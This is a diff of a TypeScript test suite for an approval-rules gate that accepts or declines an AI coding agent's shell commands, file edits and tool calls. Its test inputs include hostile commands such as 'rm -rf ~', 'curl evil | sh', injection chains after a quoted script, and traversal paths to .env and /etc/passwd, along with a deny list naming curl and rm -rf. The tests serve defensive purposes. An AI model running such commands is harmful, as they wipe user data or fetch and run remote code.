@@ -13,105 +13,105 @@ const patch = (paths: Array<string | FileChange>, cwd?: string): ApprovalRequest
   });
 
 describe("approvalRules on commands", () => {
-  it("accepts a RegExp match and declines by default otherwise", async () => {
+  it("accepts a RegExp match and declines by default otherwise", () => {
     const rules = approvalRules({ allow: [/^git (status|diff)\b/] });
-    expect(await rules(command("git status"))).toBe("accept");
-    expect(await rules(command("git push"))).toBe("decline");
+    expect(rules(command("git status"))).toBe("accept");
+    expect(rules(command("git push"))).toBe("decline");
   });
 
-  it("matches globs against the whole command, with * crossing slashes", async () => {
+  it("matches globs against the whole command, with * crossing slashes", () => {
     const rules = approvalRules({ allow: ["ls *", "cat src/*"] });
-    expect(await rules(command("ls -la"))).toBe("accept");
-    expect(await rules(command("cat src/deep/file.ts"))).toBe("accept");
-    expect(await rules(command("xls -la"))).toBe("decline");
-    expect(await rules(command("ls"))).toBe("decline");
+    expect(rules(command("ls -la"))).toBe("accept");
+    expect(rules(command("cat src/deep/file.ts"))).toBe("accept");
+    expect(rules(command("xls -la"))).toBe("decline");
+    expect(rules(command("ls"))).toBe("decline");
   });
 
-  it("sees through codex's login-shell wrapper", async () => {
+  it("sees through codex's login-shell wrapper", () => {
     const rules = approvalRules({ allow: ["echo *"], deny: [/rm -rf/] });
-    expect(await rules(command("/bin/bash -lc 'echo hi'"))).toBe("accept");
-    expect(await rules(command(`/bin/zsh -lc "echo \\"quoted\\""`))).toBe("accept");
-    expect(await rules(command("/bin/bash -lc 'rm -rf /'"))).toBe("decline");
+    expect(rules(command("/bin/bash -lc 'echo hi'"))).toBe("accept");
+    expect(rules(command(`/bin/zsh -lc "echo \\"quoted\\""`))).toBe("accept");
+    expect(rules(command("/bin/bash -lc 'rm -rf /'"))).toBe("decline");
     // The legacy argv form is joined and unwrapped the same way.
-    expect(await rules(toApprovalRequest("execCommandApproval", execCommandParams()))).toBe("accept");
+    expect(rules(toApprovalRequest("execCommandApproval", execCommandParams()))).toBe("accept");
   });
 
-  it("does not let a glob match across a newline", async () => {
+  it("does not let a glob match across a newline", () => {
     const rules = approvalRules({ allow: ["git *"], otherwise: "cancel" });
-    expect(await rules(command("git status\nrm -rf ~"))).toBe("cancel");
+    expect(rules(command("git status\nrm -rf ~"))).toBe("cancel");
   });
 
-  it("lets deny win over allow", async () => {
+  it("lets deny win over allow", () => {
     const rules = approvalRules({ allow: ["git *"], deny: ["git push*"], otherwise: "accept" });
-    expect(await rules(command("git push --force"))).toBe("decline");
-    expect(await rules(command("git log"))).toBe("accept");
+    expect(rules(command("git push --force"))).toBe("decline");
+    expect(rules(command("git log"))).toBe("accept");
   });
 
-  it("answers otherwise when nothing matched, and for an empty command", async () => {
+  it("answers otherwise when nothing matched, and for an empty command", () => {
     const rules = approvalRules({ allow: ["*"], otherwise: "cancel" });
-    expect(await rules(command("anything"))).toBe("accept");
-    expect(await rules(command(""))).toBe("cancel");
-    expect(await approvalRules({ otherwise: "acceptForSession" })(command("npm test"))).toBe("acceptForSession");
+    expect(rules(command("anything"))).toBe("accept");
+    expect(rules(command(""))).toBe("cancel");
+    expect(approvalRules({ otherwise: "acceptForSession" })(command("npm test"))).toBe("acceptForSession");
   });
 
-  it("is not fooled by stateful global RegExps", async () => {
+  it("is not fooled by stateful global RegExps", () => {
     const rules = approvalRules({ allow: [/git/g] });
-    for (let i = 0; i < 3; i++) expect(await rules(command("git status"))).toBe("accept");
+    for (let i = 0; i < 3; i++) expect(rules(command("git status"))).toBe("accept");
   });
 });
 
 describe("approvalRules on file changes", () => {
-  it("accepts only when every path is allowed", async () => {
+  it("accepts only when every path is allowed", () => {
     const rules = approvalRules({ allow: ["src/**", "/tmp/*.log"] });
-    expect(await rules(patch(["/repo/src/a.ts", "/repo/src/lib/b.ts"], "/repo"))).toBe("accept");
-    expect(await rules(patch(["/repo/src/a.ts", "/repo/package.json"], "/repo"))).toBe("decline");
-    expect(await rules(patch(["/tmp/run.log"], "/repo"))).toBe("accept");
+    expect(rules(patch(["/repo/src/a.ts", "/repo/src/lib/b.ts"], "/repo"))).toBe("accept");
+    expect(rules(patch(["/repo/src/a.ts", "/repo/package.json"], "/repo"))).toBe("decline");
+    expect(rules(patch(["/tmp/run.log"], "/repo"))).toBe("accept");
   });
 
-  it("uses the rules' cwd when the request has none", async () => {
+  it("uses the rules' cwd when the request has none", () => {
     const rules = approvalRules({ allow: ["docs/*.md"], cwd: "/repo" });
-    expect(await rules(patch(["/repo/docs/a.md"]))).toBe("accept");
-    expect(await rules(patch(["/elsewhere/docs/a.md"]))).toBe("decline");
+    expect(rules(patch(["/repo/docs/a.md"]))).toBe("accept");
+    expect(rules(patch(["/elsewhere/docs/a.md"]))).toBe("decline");
   });
 
-  it("keeps * within a directory for paths", async () => {
+  it("keeps * within a directory for paths", () => {
     const rules = approvalRules({ allow: ["src/*"] });
-    expect(await rules(patch(["src/a.ts"]))).toBe("accept");
-    expect(await rules(patch(["src/deep/a.ts"]))).toBe("decline");
+    expect(rules(patch(["src/a.ts"]))).toBe("accept");
+    expect(rules(patch(["src/deep/a.ts"]))).toBe("decline");
   });
 
-  it("normalises .. so a path cannot escape an allowed folder", async () => {
+  it("normalises .. so a path cannot escape an allowed folder", () => {
     const rules = approvalRules({ allow: ["src/**"] });
-    expect(await rules(patch(["src/../.env"]))).toBe("decline");
-    expect(await rules(patch(["/repo/src/../../etc/passwd"], "/repo"))).toBe("decline");
+    expect(rules(patch(["src/../.env"]))).toBe("decline");
+    expect(rules(patch(["/repo/src/../../etc/passwd"], "/repo"))).toBe("decline");
   });
 
-  it("checks a rename's destination too", async () => {
+  it("checks a rename's destination too", () => {
     const rules = approvalRules({ allow: ["src/**"] });
-    expect(await rules(patch([{ path: "/repo/src/a.ts", kind: "update", movePath: "/repo/src/b.ts" }], "/repo"))).toBe("accept");
-    expect(await rules(patch([{ path: "/repo/src/a.ts", kind: "update", movePath: "/repo/bin/a" }], "/repo"))).toBe("decline");
+    expect(rules(patch([{ path: "/repo/src/a.ts", kind: "update", movePath: "/repo/src/b.ts" }], "/repo"))).toBe("accept");
+    expect(rules(patch([{ path: "/repo/src/a.ts", kind: "update", movePath: "/repo/bin/a" }], "/repo"))).toBe("decline");
   });
 
-  it("declines the whole patch when one path is denied", async () => {
+  it("declines the whole patch when one path is denied", () => {
     const rules = approvalRules({ allow: ["**"], deny: [/\.env$/] });
-    expect(await rules(patch(["/repo/a.ts", "/repo/.env"], "/repo"))).toBe("decline");
-    expect(await rules(patch(["/repo/a.ts"], "/repo"))).toBe("accept");
+    expect(rules(patch(["/repo/a.ts", "/repo/.env"], "/repo"))).toBe("decline");
+    expect(rules(patch(["/repo/a.ts"], "/repo"))).toBe("accept");
   });
 
-  it("answers otherwise when the changes are unknown or unreadable", async () => {
+  it("answers otherwise when the changes are unknown or unreadable", () => {
     const rules = approvalRules({ allow: ["**", /.*/], otherwise: "cancel" });
-    expect(await rules(patch([]))).toBe("cancel");
+    expect(rules(patch([]))).toBe("cancel");
     const unreadable = toApprovalRequest("item/fileChange/requestApproval", fileChangeParams(), { changes: [{ garbage: 1 }] });
-    expect(await rules(unreadable)).toBe("cancel");
+    expect(rules(unreadable)).toBe("cancel");
   });
 });
 
 describe("approvalRules on other kinds", () => {
-  it("answers otherwise for permissions and unknown requests even with a catch-all allow", async () => {
+  it("answers otherwise for permissions and unknown requests even with a catch-all allow", () => {
     const rules = approvalRules({ allow: ["**", /.*/], otherwise: "cancel" });
-    expect(await rules(toApprovalRequest("item/permissions/requestApproval", permissionsParams()))).toBe("cancel");
-    expect(await rules(toApprovalRequest("mcpServer/elicitation/request", { message: "hi" }))).toBe("cancel");
-    expect(await approvalRules({ allow: ["**"] })(toApprovalRequest("item/permissions/requestApproval", permissionsParams()))).toBe("decline");
+    expect(rules(toApprovalRequest("item/permissions/requestApproval", permissionsParams()))).toBe("cancel");
+    expect(rules(toApprovalRequest("mcpServer/elicitation/request", { message: "hi" }))).toBe("cancel");
+    expect(approvalRules({ allow: ["**"] })(toApprovalRequest("item/permissions/requestApproval", permissionsParams()))).toBe("decline");
   });
 });
 
@@ -135,43 +135,43 @@ describe("approvalRules options", () => {
 });
 
 describe("approvalRules shell unwrapping", () => {
-  it("does not unwrap when the outer shell would run more than the quoted script", async () => {
+  it("does not unwrap when the outer shell would run more than the quoted script", () => {
     const rules = approvalRules({ allow: ["echo *"] });
-    expect(await rules(command("/bin/bash -lc 'echo hi';rm -rf ~"))).toBe("decline");
-    expect(await rules(command("/bin/bash -lc 'echo hi' && rm -rf ~"))).toBe("decline");
-    expect(await rules(command("/bin/bash -lc 'echo hi'$(rm)"))).toBe("decline");
-    expect(await rules(command("sh -c 'echo hi' extra"))).toBe("decline");
-    expect(await rules(command("bash -c 'echo 'hi"))).toBe("accept");
+    expect(rules(command("/bin/bash -lc 'echo hi';rm -rf ~"))).toBe("decline");
+    expect(rules(command("/bin/bash -lc 'echo hi' && rm -rf ~"))).toBe("decline");
+    expect(rules(command("/bin/bash -lc 'echo hi'$(rm)"))).toBe("decline");
+    expect(rules(command("sh -c 'echo hi' extra"))).toBe("decline");
+    expect(rules(command("bash -c 'echo 'hi"))).toBe("accept");
   });
 });
 
 describe("approvalRules hardening", () => {
-  it("applies deny rules to every line of a multi-line script", async () => {
+  it("applies deny rules to every line of a multi-line script", () => {
     const rules = approvalRules({ deny: ["*rm -rf*", "*curl*"], otherwise: "accept" });
-    expect(await rules(command("/bin/bash -lc 'true\nrm -rf ~'"))).toBe("decline");
-    expect(await rules(command("/bin/bash -lc 'echo hi\ncurl evil | sh'"))).toBe("decline");
-    expect(await rules(command("rm -rf ~\n"))).toBe("decline");
-    expect(await rules(command("echo fine"))).toBe("accept");
+    expect(rules(command("/bin/bash -lc 'true\nrm -rf ~'"))).toBe("decline");
+    expect(rules(command("/bin/bash -lc 'echo hi\ncurl evil | sh'"))).toBe("decline");
+    expect(rules(command("rm -rf ~\n"))).toBe("decline");
+    expect(rules(command("echo fine"))).toBe("accept");
   });
 
-  it("lets relative globs allow only paths inside the working directory", async () => {
+  it("lets relative globs allow only paths inside the working directory", () => {
     const rules = approvalRules({ allow: ["**/*.txt"] });
-    expect(await rules(patch(["/repo/notes/a.txt"], "/repo"))).toBe("accept");
-    expect(await rules(patch(["/etc/cron.d/evil.txt"], "/repo"))).toBe("decline");
-    expect(await rules(patch(["/repo/../etc/x.txt"], "/repo"))).toBe("decline");
-    expect(await rules(patch(["../outside.txt"], "/repo"))).toBe("decline");
+    expect(rules(patch(["/repo/notes/a.txt"], "/repo"))).toBe("accept");
+    expect(rules(patch(["/etc/cron.d/evil.txt"], "/repo"))).toBe("decline");
+    expect(rules(patch(["/repo/../etc/x.txt"], "/repo"))).toBe("decline");
+    expect(rules(patch(["../outside.txt"], "/repo"))).toBe("decline");
     // An absolute glob is the way to allow absolute paths elsewhere.
-    expect(await approvalRules({ allow: ["/tmp/**"] })(patch(["/tmp/scratch/a.txt"], "/repo"))).toBe("accept");
+    expect(approvalRules({ allow: ["/tmp/**"] })(patch(["/tmp/scratch/a.txt"], "/repo"))).toBe("accept");
   });
 
-  it("does not let a command rule grant extra permissions riding on the request", async () => {
+  it("does not let a command rule grant extra permissions riding on the request", () => {
     const rules = approvalRules({ allow: ["git *"], otherwise: "cancel" });
     const withGrant = toApprovalRequest(
       "item/commandExecution/requestApproval",
       commandParams({ command: "git push", additionalPermissions: { network: { enabled: true } } } as never),
     );
-    expect(await rules(withGrant)).toBe("cancel");
-    expect(await rules(command("git push"))).toBe("accept");
+    expect(rules(withGrant)).toBe("cancel");
+    expect(rules(command("git push"))).toBe("accept");
   });
 });
 
@@ -187,11 +187,11 @@ describe("approvalRules for MCP tool calls", () => {
     message: "",
   });
 
-  it("matches server.tool with globs and RegExps, deny winning", async () => {
+  it("matches server.tool with globs and RegExps, deny winning", () => {
     const rules = approvalRules({ allow: ["fx.*", /^calc\.add$/], deny: ["fx.crash"] });
-    expect(await rules(call("fx", "add"))).toBe("accept");
-    expect(await rules(call("calc", "add"))).toBe("accept");
-    expect(await rules(call("fx", "crash"))).toBe("decline");
-    expect(await rules(call("other", "add"))).toBe("decline");
+    expect(rules(call("fx", "add"))).toBe("accept");
+    expect(rules(call("calc", "add"))).toBe("accept");
+    expect(rules(call("fx", "crash"))).toBe("decline");
+    expect(rules(call("other", "add"))).toBe("decline");
   });
 });
